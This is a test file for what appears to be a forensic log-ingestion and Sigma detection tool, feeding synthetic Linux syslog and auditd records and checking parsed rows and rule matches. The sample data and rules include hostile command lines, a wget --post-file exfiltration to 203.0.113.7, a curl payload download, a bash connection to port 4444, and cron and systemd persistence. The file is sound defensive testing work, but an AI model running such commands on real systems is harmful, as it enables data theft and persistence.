import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { silentProgress } from "../../src/kernel/progress.js";
import type { SigmaMatch } from "../../src/model/sigma.js";
import { huntCase, loadRules, matchEvents } from "../../src/pipeline/index.js";
import { EXECVE, LOGIN, PROCESS, SERVICE_STOP, syslogLine, sysmonEvent } from "../sources/linux/samples.js";
import { type CaseFolder, openCaseFolder } from "./support/case-folder.js";

let folder: CaseFolder;
beforeEach(async () => {
  folder = await openCaseFolder();
});
afterEach(() => folder.close());

const lines = (...all: readonly string[]): string => all.map((line) => `${line}\n`).join("");
const cron = syslogLine("(root) CMD (true)", "CRON[7]");
const FILE = { Image: "/usr/bin/wget", TargetFilename: "/etc/cron.d/x", User: "root" };
const CONNECTION = {
  Image: "/bin/bash",
  DestinationIp: "203.0.113.7",
  DestinationPort: "4444",
  Initiated: "true",
};
const SYSLOG = lines(
  cron,
  syslogLine(sysmonEvent(1, 1, PROCESS)),
  cron,
  syslogLine(sysmonEvent(11, 2, FILE)),
  syslogLine(sysmonEvent(3, 3, CONNECTION)),
);
const head = (type: string, serial: number) => `type=${type} msg=audit(1709294500.000:${serial}):`;
const AUDIT = lines(
  ...EXECVE(456),
  `${head("SYSCALL", 457)} arch=c000003e syscall=257 success=yes ppid=1 pid=99 auid=1000 uid=0 euid=0 tty=(none) ses=3 comm="sh" exe="/bin/sh" key=(null)\u001dARCH=x86_64 SYSCALL=openat AUID="eve" UID="root"`,
  `${head("CWD", 457)} cwd="/etc/systemd/system"`,
  `${head("PATH", 457)} item=1 name="evil.service" inode=9 nametype=CREATE`,
  SERVICE_STOP,
  LOGIN,
);

describe("logs of Linux hosts in a case", () => {
  it("are seen by the classes", async () => {
    folder.put("web01/syslog", SYSLOG);
    folder.put("web01/audit.log", AUDIT);
    const reports = await folder.ingest();
    expect(reports.get("web01/syslog")).toMatchObject({
      ...{ format: "sysmon-linux", rows: 3, rejected: 0, unused_lines: 2, sensor_id: "web01", reason: "" },
    });
    expect(reports.get("web01/audit.log")).toMatchObject({
      format: "auditd",
      rows: 11,
      rejected: 0,
      unused_lines: 0,
    });
    expect(
      await folder.query(
        "SELECT product, activity, process_pid, process_file_path, process_cmd_line, user_name, parent_process_pid FROM process_activity ORDER BY product",
      ),
    ).toEqual([
      {
        ...{ product: "auditd", activity: "Launch", process_pid: 1234, process_file_path: "/usr/bin/wget" },
        ...{ process_cmd_line: "wget --post-file=/etc/pass wd http://203.0.113.7/", user_name: "1000" },
        parent_process_pid: 1200,
      },
      {
        ...{
          product: "sysmon-linux",
          activity: "Launch",
          process_pid: 4242,
          process_file_path: "/usr/bin/curl",
        },
        ...{ process_cmd_line: 'curl -s "http://203.0.113.7/?a=1&b=2" -o /tmp/x', user_name: "root" },
        parent_process_pid: 0,
      },
    ]);
    expect(
      await folder.query(
        "SELECT product, activity, process_file_path, file_path, user_name FROM host_file_activity ORDER BY product",
      ),
    ).toEqual([
      {
        ...{ product: "auditd", activity: "Create", process_file_path: "/bin/sh", user_name: "eve" },
        file_path: "/etc/systemd/system/evil.service",
      },
      {
        ...{
          product: "sysmon-linux",
          activity: "Create",
          process_file_path: "/usr/bin/wget",
          user_name: "root",
        },
        file_path: "/etc/cron.d/x",
      },
    ]);
    expect(
      await folder.query(
        "SELECT activity, status, user_name, toString(src_endpoint_ip) AS ip, process_file_path FROM authentication",
      ),
    ).toEqual([
      {
        ...{ activity: "Logon", status: "Failure", user_name: "eve", ip: "::ffff:203.0.113.9" },
        process_file_path: "/usr/sbin/sshd",
      },
    ]);
  });

  it("add what is new when they grow, and nothing when they come again; a torn record waits", async () => {
    const cut = AUDIT.indexOf("argc=3") + 30;
    folder.put("audit.log", AUDIT.slice(0, cut));
    expect((await folder.ingest()).get("audit.log")).toMatchObject({ rows: 1, rejected: 0 });
    folder.put("audit.log", AUDIT);
    expect((await folder.ingest()).get("audit.log")).toMatchObject({ rows: 10, rejected: 0 });
    folder.put("audit.log.1.gz", gzipSync(AUDIT));
    for (const { rows, skipped } of (await folder.ingest()).values())
      expect([rows, skipped]).toEqual([0, true]);
    // The record that waited knows what the one before it said.
    expect(await folder.value("SELECT context['exe'] FROM windows_event WHERE event_id = 1309")).toBe(
      "/usr/bin/wget",
    );
  });
});

/** Synthetic rules, each for one log source of Linux. */
const RULE = (number: number, logsource: string, detection: string): string =>
  `title: Rule ${number}\nid: 00000000-0000-4000-8000-00000000000${number}\nlogsource: { product: linux, ${logsource} }\nlevel: high\ndetection:\n  a:\n${detection}\n  condition: a\n`;
const RULES = [
  RULE(1, "category: process_creation", "    Image|endswith: /curl\n    CommandLine|contains: 'a=1&b=2'"),
  RULE(2, "category: file_event", "    TargetFilename|startswith: /etc/cron.d/"),
  RULE(3, "category: network_connection", "    DestinationPort: 4444\n    Initiated: 'true'"),
  RULE(4, "service: auditd", "    type: EXECVE\n    a0: wget\n    a1|startswith: '--post-file='"),
  RULE(5, "service: auditd", "    type: SYSCALL\n    SYSCALL: execve\n    key: susp_activity"),
  RULE(6, "service: auditd", "    type: SERVICE_STOP\n    unit: [firewalld, ufw]"),
  // Who made the call is no field of the other records of its event.
  RULE(7, "service: auditd", "    type: EXECVE\n    exe|endswith: /wget"),
  RULE(8, "category: process_creation", "    Image|endswith: /wget"),
].join("---\n");

it("Sigma matches the same in the files and in the case", async () => {
  folder.put("syslog", SYSLOG);
  folder.put("audit.log", AUDIT);
  const path = join(folder.root, "rules.yml");
  writeFileSync(path, RULES);
  const loaded = loadRules([path]);
  expect(loaded.checked.map(({ status }) => status)).toEqual(Array(8).fill("ok"));
  const matched: SigmaMatch[] = [];
  const problems: unknown[] = [];
  const report = await matchEvents(
    { paths: [folder.logs], ...loaded, threads: 0 },
    {
      match: async (match) => void matched.push(match),
      problem: async (_, each) => void problems.push(each),
    },
    silentProgress,
  );
  expect(problems).toEqual([]);
  expect(report.records).toBe(14);
  const short = (matches: readonly SigmaMatch[]) =>
    matches
      .map(
        ({ rule_title, file, line, record_id }) =>
          `${rule_title}: ${file?.slice(folder.logs.length + 1)}:${line} ${record_id}`,
      )
      .sort();
  expect(short(matched)).toEqual([
    "Rule 1: syslog:2 1",
    "Rule 2: syslog:4 2",
    "Rule 3: syslog:5 3",
    "Rule 4: audit.log:2 456",
    "Rule 5: audit.log:1 456",
    "Rule 6: audit.log:10 9",
  ]);
  await folder.ingest();
  const hunted: SigmaMatch[] = [];
  await huntCase(folder.opened, loaded, async (match) => void hunted.push(match), silentProgress);
  const byTitle = (matches: SigmaMatch[]) => matches.sort((a, b) => (a.rule_title < b.rule_title ? -1 : 1));
  expect(byTitle(hunted)).toEqual(byTitle(matched));
});
